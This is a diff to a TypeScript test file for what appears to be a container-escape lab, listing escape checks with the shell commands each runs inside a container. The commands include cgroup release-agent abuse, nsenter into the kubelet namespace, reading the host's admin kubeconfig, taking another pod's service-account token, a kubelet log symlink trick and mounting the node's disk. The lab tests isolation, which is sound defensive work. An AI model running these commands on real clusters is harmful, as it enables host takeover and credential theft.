@@ -27,7 +27,8 @@ const helper = [
 
 export const escapes: readonly Proof[] = [
   escape("cgroup-release-agent", "the kernel ran a release agent on the node", async (_, run) => {
-    const { out } = await run(`${helper}; mkdir -p /tmp/c && mount -t cgroup -o freezer cgroup /tmp/c || exit 1
+    const { out } =
+      await run(`${helper}; mkdir -p /tmp/c && mount -t cgroup -o freezer cgroup /tmp/c || exit 1
       mkdir -p /tmp/c/plimsoll-edge; echo 1 >/tmp/c/plimsoll-edge/notify_on_release
       old=$(cat /tmp/c/release_agent); echo "$up/helper" >/tmp/c/release_agent
       sh -c 'echo $$ >/tmp/c/plimsoll-edge/cgroup.procs'; sleep 0.5
@@ -64,7 +65,7 @@ export const escapes: readonly Proof[] = [
   }),
   escape("host-network-loopback", "etcd's loopback answered", async (_, run) => {
     const { out } = await run("printf 'GET /health HTTP/1.0\\r\\n\\r\\n' | nc -w 3 127.0.0.1 2381");
-    return out.includes('"health":"true"');
+    return out.includes('"health":');
   }),
   escape("host-pid-nsenter", "nsenter ran in the mount namespace of the kubelet", async ({ state }, run) => {
     // Not that of process 1: where the lab is itself a guest, nobody may enter it.
@@ -82,14 +83,18 @@ export const escapes: readonly Proof[] = [
     child.kill("SIGKILL");
     return out.includes("PLIMSOLL_EDGE=known-to-the-node");
   }),
-  escape("host-process-injection", "the memory of a process of the node was written", async ({ actor }, run) => {
-    const child = spawn(actor, ["target"], { stdio: ["ignore", "pipe", "inherit"] });
-    const [line = ""] = await firstLines(child.stdout, 1);
-    const { code } = await run(`act write ${line}`);
-    const [word] = code === 0 ? await firstLines(child.stdout, 1) : [""];
-    child.kill("SIGKILL");
-    return word === "yours";
-  }),
+  escape(
+    "host-process-injection",
+    "the memory of a process of the node was written",
+    async ({ actor }, run) => {
+      const child = spawn(actor, ["target"], { stdio: ["ignore", "pipe", "inherit"] });
+      const [line = ""] = await firstLines(child.stdout, 1);
+      const { code } = await run(`act write ${line}`);
+      const [word] = code === 0 ? await firstLines(child.stdout, 1) : [""];
+      child.kill("SIGKILL");
+      return word === "yours";
+    },
+  ),
   escape("host-root-read", "the administrator's kubeconfig was read", async ({ state }, run) => {
     const { out } = await run(`cat /host${state}/admin.kubeconfig`);
     return out === readFileSync(`${state}/admin.kubeconfig`, "utf8");
@@ -99,28 +104,48 @@ export const escapes: readonly Proof[] = [
     return code === 0;
   }),
   escape("kernel-module-load", "not done: the lab's kernel takes no modules"),
-  escape("kernel-tracing", "a map was made in the kernel", async (_, run) => (await run("act map")).code === 0),
-  escape("kubelet-directory", "the token of another pod was read, and the API server took it", async (lab, run) => {
-    const { out } = await run("cat /host/*/volumes/kubernetes.io~projected/*/token | head -n 1; echo");
-    const [token = ""] = out.split("\n");
-    return token !== "" && (await accountOf(lab, token)).startsWith("system:serviceaccount:");
-  }),
-  escape("log-symlink", "the kubelet served a file of the node by a link among its logs", async (lab, run) => {
-    const { code } = await run("ln -sf /etc/hostname /host/plimsoll-edge");
-    if (code !== 0) return false;
-    const answer = await lab.api.send("GET", "/api/v1/nodes/plimsoll-node/proxy/logs/plimsoll-edge");
-    await run("rm /host/plimsoll-edge");
-    return answer.body.message === readFileSync("/etc/hostname", "utf8");
-  }),
+  escape(
+    "kernel-tracing",
+    "a map was made in the kernel",
+    async (_, run) => (await run("act map")).code === 0,
+  ),
+  escape(
+    "kubelet-directory",
+    "the token of another pod was read, and the API server took it",
+    async (lab, run) => {
+      const { out } = await run(
+        "for f in /host/*/volumes/kubernetes.io~projected/*/token; do cat $f; break; done",
+      );
+      return out !== "" && (await accountOf(lab, out)).startsWith("system:serviceaccount:");
+    },
+  ),
+  escape(
+    "log-symlink",
+    "the kubelet served a file of the node by a link among its logs",
+    async (lab, run) => {
+      const { code } = await run("ln -sf /etc/hostname /host/plimsoll-edge");
+      if (code !== 0) return false;
+      const log = "/api/v1/nodes/plimsoll-node/proxy/logs/plimsoll-edge";
+      const { out } = await lab.onNode("kubectl", "get", "--raw", log);
+      await run("rm /host/plimsoll-edge");
+      return out === readFileSync("/etc/hostname", "utf8");
+    },
+  ),
   escape("node-devices", "not done: the device control group keeps it out, as the edge's doubt says"),
   escape("privileged-mount", "the node's disk was mounted and read", async (_, run) => {
-    const disk = execFileSync("findmnt", ["-no", "SOURCE", "/"], { encoding: "utf8" }).trim();
-    const { out } = await run(`mkdir -p /tmp/d && mount -o ro ${disk} /tmp/d && cat /tmp/d/etc/hostname; umount /tmp/d`);
+    const told = execFileSync("findmnt", ["-no", "SOURCE,FSTYPE", "/"], { encoding: "utf8" });
+    const [disk, type] = told.trim().split(/\s+/);
+    const { out } = await run(
+      `mkdir -p /tmp/d && mount -t ${type} ${disk} /tmp/d && cat /tmp/d/etc/hostname; umount /tmp/d`,
+    );
     return out === readFileSync("/etc/hostname", "utf8");
   }),
   escape("raw-input-output", "not done: the lab's kernel has neither port access nor /dev/mem"),
-  escape("runtime-socket", "the runtime answered in gRPC's words", async (_, run) =>
-    (await run("act greet /host")).code === 0),
+  escape(
+    "runtime-socket",
+    "the runtime answered in gRPC's words",
+    async (_, run) => (await run("act greet /host")).code === 0,
+  ),
   escape("runtime-storage", "a file lay in the runtime's storage", async ({ state }, run) => {
     await run("echo changed >/host/plimsoll-edge");
     try {
